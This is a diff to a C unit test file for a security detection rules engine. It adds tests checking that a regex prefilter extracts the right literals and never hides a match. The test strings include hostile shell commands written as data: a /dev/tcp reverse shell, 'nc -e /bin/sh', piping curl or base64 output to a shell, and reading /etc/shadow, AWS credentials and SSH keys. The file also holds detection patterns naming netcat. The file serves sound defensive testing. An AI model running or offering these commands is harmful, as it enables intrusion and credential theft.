@@ -1,7 +1,9 @@
 /* test_enrich_rules.c - the rules-file format and the built-in rules on
  * hand-built facts: parse errors name what is wrong, conditions combine as
  * AND, user rules run first and "final" stops evaluation, exec probes and
- * container starts stay quiet while attacks get their severity.
+ * container starts stay quiet while attacks get their severity; the
+ * regex prefilter finds the literals a regex needs and never rejects a
+ * string the regex matches.
  *
  * The enrich modules are not in libtetra.a, so the sources under test are
  * compiled into this test directly. */
@@ -12,6 +14,7 @@
 #include <unistd.h>
 
 #include "../../enrich/facts.c"
+#include "../../enrich/prefilter.c"
 #include "../../enrich/rules.c"
 #include "../../enrich/rules_builtin.c"
 
@@ -192,6 +195,66 @@ START_TEST(builtin_rules_all_complete)
 }
 END_TEST
 
+static void lits_are(const char *re, const char *want) {
+    prefilter pf;
+    char got[512] = "";
+    ck_assert_int_eq(prefilter_compile(re, &pf), 0);
+    for (size_t i = 0; i < pf.n; i++) {
+        strncat(got, i ? "," : "", sizeof got - strlen(got) - 1);
+        strncat(got, pf.lit[i], sizeof got - strlen(got) - 1);
+    }
+    ck_assert_msg(strcmp(got, want) == 0, "%s: got [%s], want [%s]", re, got, want);
+    prefilter_free(&pf);
+}
+
+START_TEST(prefilter_literals)
+{
+    lits_are("/etc/cron|/var/spool/cron|(^|/)crontab( |$)", "/etc/cron,/var/spool/cron,crontab");
+    lits_are("/(nc|ncat|nc[.]openbsd)$", "nc,ncat,nc.openbsd");
+    lits_are("/(ba|da|z)?sh$", "sh");                  /* optional group offers nothing */
+    lits_are("169[.]254[.]169[.]254", "169.254.169.254");
+    lits_are("base64 +-d", "base64 ");                 /* x+ needs one x */
+    lits_are("abc?d", "ab");                           /* c? is optional */
+    lits_are("ab{0,2}cd", "cd");
+    lits_are("a\\.b", "a.b");
+    lits_are("(^| )-[a-z]*[ce]( |$)", "-");
+    lits_are("x|[0-9]+", "");                          /* a branch without literal: none */
+    lits_are("(a|)b", "b");
+    lits_are("\\<word", "word");                       /* GNU anchor, not a literal */
+    lits_are("[]x]yz|[^y]q", "yz,q");
+}
+END_TEST
+
+/* Soundness: for every built-in regex and many strings, a string the
+ * regex matches always passes the prefilter. */
+START_TEST(prefilter_never_hides_a_match)
+{
+    ruleset rs = RULESET_INIT;
+    char err[256];
+    ck_assert_int_eq(rules_load_builtin(&rs, err, sizeof err), 0);
+    static const char *const texts[] = {
+        "/bin/bash", "/usr/bin/nc -e /bin/sh 1.2.3.4 4444", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
+        "/usr/bin/python3 -c import socket", "cat /etc/shadow", "/etc/cron.d/x", "crontab -l",
+        "sock tcp 10.0.0.1:4000 -> 1.2.3.4:4444", "/usr/sbin/insmod x.ko", "nsenter -t 1 -m sh",
+        "curl http://169.254.169.254/latest", "chmod u+s /tmp/x", "chmod 4755 /tmp/x",
+        "tar czf /tmp/a.tgz /etc", "xmrig --donate-level 1", "rm -f /root/.bash_history",
+        "echo x | base64 -d | sh", "curl -s http://x | sudo bash", "cap CAP_SYS_ADMIN",
+        "/run/containerd/containerd.sock", "cat ~/.aws/credentials", "id_rsa .ssh/id_rsa",
+        "", "a", "/", "-", "plain text with nothing", "ssh user@host:/x", "socat exec:/bin/sh",
+    };
+    for (size_t i = 0; i < rs.n; i++)
+        for (int c = 0; c < rs.v[i].ncond; c++) {
+            const rule_cond *rc = &rs.v[i].cond[c];
+            if (rc->op != COND_RE && rc->op != COND_NRE) continue;
+            for (size_t t = 0; t < sizeof texts / sizeof texts[0]; t++)
+                if (regexec(&rc->re, texts[t], 0, NULL, 0) == 0)
+                    ck_assert_msg(prefilter_may_match(&rc->pf, texts[t]), "%s hides %s",
+                                  rc->value, texts[t]);
+        }
+    rules_free(&rs);
+}
+END_TEST
+
 START_TEST(rules_file_reports_line)
 {
     char path[] = "/tmp/test_enrich_rules_XXXXXX";
@@ -219,6 +282,8 @@ int main(void) {
     tcase_add_test(tc, attacks_get_their_severity);
     tcase_add_test(tc, builtin_rules_all_complete);
     tcase_add_test(tc, rules_file_reports_line);
+    tcase_add_test(tc, prefilter_literals);
+    tcase_add_test(tc, prefilter_never_hides_a_match);
     suite_add_tcase(s, tc);
     SRunner *sr = srunner_create(s);
     srunner_run_all(sr, CK_NORMAL);
